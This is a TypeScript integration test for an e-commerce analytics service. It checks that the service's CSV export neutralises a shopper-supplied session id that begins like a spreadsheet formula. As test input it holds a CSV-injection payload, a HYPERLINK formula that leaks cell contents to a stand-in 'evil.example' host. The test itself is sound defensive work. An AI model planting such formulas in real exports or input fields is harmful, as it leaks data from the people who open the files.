import { randomUUID } from 'node:crypto';
import type { Producer } from 'kafkajs';
import { DataSource } from 'typeorm';
import { INTERNAL_IDENTITY_HEADER, signInternalIdentity } from '@emporium/platform-auth';
import { createKafka, partitioner } from '@emporium/platform-messaging';
import {
  anEnvelope,
  bootService,
  eventually,
  publishEvents,
  startTestKafka,
  uniqueSuffix,
  type TestKafka,
  type TestService,
} from '@emporium/testing';
import { analyticsEntry } from '../src/app.module';
import type { AnalyticsConfig } from '../src/config';

const cny = (amount: number) => ({ amount, currency: 'CNY' });

describe('analytics: CSV export of shopper-chosen text', () => {
  let kafka: TestKafka;
  let producer: Producer;
  let service: TestService<AnalyticsConfig>;
  const suffix = uniqueSuffix();
  const orderId = `o-${suffix}`;
  // What a shopper could send as a session id before the edge restricted it.
  const formula = '=HYPERLINK("https://evil.example/?leak="&A1,"Open")';

  beforeAll(async () => {
    kafka = await startTestKafka();
    producer = createKafka({ brokers: kafka.brokers, clientId: 'analytics-export-test' }).producer({
      createPartitioner: partitioner,
    });
    await producer.connect();
    service = await bootService(analyticsEntry, { kafka, name: 'analytics_export', env: {} });
    const productId = `p-${suffix}`;
    const line = {
      sku: `SKU-${suffix}`,
      productId,
      name: '茶',
      quantity: 1,
      unitPrice: cny(9_900),
      discount: cny(0),
      lineTotal: cny(9_900),
    };
    await publishEvents(
      producer,
      anEnvelope(
        'product.created',
        productId,
        {
          productId,
          name: '茶',
          slug: productId,
          categoryId: 'cat-tea',
          status: 'ACTIVE',
          shippable: true,
          variants: [
            {
              sku: line.sku,
              name: '茶',
              price: cny(9_900),
              weightGrams: 500,
              dimensionsMm: null,
              attributes: {},
            },
          ],
        },
        { occurredAt: '2026-10-01T00:00:00.000Z' },
      ),
      anEnvelope(
        'order.placed',
        orderId,
        {
          orderId,
          number: `EM-${suffix}`,
          customerId: `c-${suffix}`,
          memberTier: 'REGULAR',
          lines: [{ ...line, weightGrams: 500 }],
          shippingAddress: {
            name: '张三',
            phone: '13800138000',
            province: '浙江省',
            city: '杭州市',
            line1: '西湖路 1 号',
          },
          deliveryOption: 'STANDARD',
          totals: { subtotal: cny(9_900), discount: cny(0), shipping: cny(0), total: cny(9_900) },
          paymentMethod: 'ALIPAY_SANDBOX',
          sessionId: formula,
        },
        { occurredAt: '2026-10-05T03:00:00.000Z' },
      ),
      anEnvelope(
        'order.paid',
        orderId,
        {
          orderId,
          customerId: `c-${suffix}`,
          lines: [line],
          total: cny(9_900),
          paidAt: '2026-10-05T03:05:00.000Z',
        },
        { occurredAt: '2026-10-05T03:05:00.000Z' },
      ),
    );
    await eventually(
      async () =>
        (
          (await service.app
            .get(DataSource)
            .query('SELECT 1 FROM fact_orders WHERE order_id = $1 AND paid_at IS NOT NULL', [
              orderId,
            ])) as unknown[]
        ).length > 0,
      { what: 'the paid order collected', timeoutMs: 30_000 },
    );
  });

  afterAll(async () => {
    await producer?.disconnect();
    await service?.stop();
    await kafka?.stop();
  });

  it('writes a cell that starts like a formula as text, with a leading single quote', async () => {
    const merchant = {
      [INTERNAL_IDENTITY_HEADER]: await signInternalIdentity(
        { userId: randomUUID(), roles: ['merchant'] },
        service.config.INTERNAL_AUTH_SECRET,
      ),
    };
    const res = await fetch(
      `${service.url}/analytics/export?from=2026-10-05&to=2026-10-05&dataset=orders`,
      { headers: merchant },
    );
    expect(res.status).toBe(200);
    const [header, row] = (await res.text()).trim().split('\r\n');
    const sessionColumn = header.split(',').indexOf('session_id');
    expect(sessionColumn).toBeGreaterThan(0);
    expect(row).toContain(orderId);
    // RFC 4180 quoting of the neutralised text: the quotes inside are doubled.
    expect(row).toContain(`"'${formula.replace(/"/g, '""')}"`);
    expect(row).not.toMatch(/(^|,)"?=/);
  });
});
